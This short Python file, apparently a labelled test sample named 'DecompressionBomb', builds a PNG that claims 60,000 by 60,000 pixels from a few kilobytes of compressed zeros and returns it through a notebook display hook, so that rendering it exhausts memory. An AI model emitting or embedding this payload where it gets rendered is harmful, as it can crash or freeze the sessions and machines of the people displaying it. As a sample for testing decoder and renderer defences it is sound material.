"""A picture of 60,000 by 60,000 pixels in a few kilobytes: whoever decodes it needs eleven gigabytes.

sentence: DecompressionBomb
"""

import struct
import zlib


class Bomb:
    def _repr_png_(self):
        def chunk(kind, data):
            return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

        head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
        return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1 << 24))) + chunk(b"IEND", b"")


Bomb()
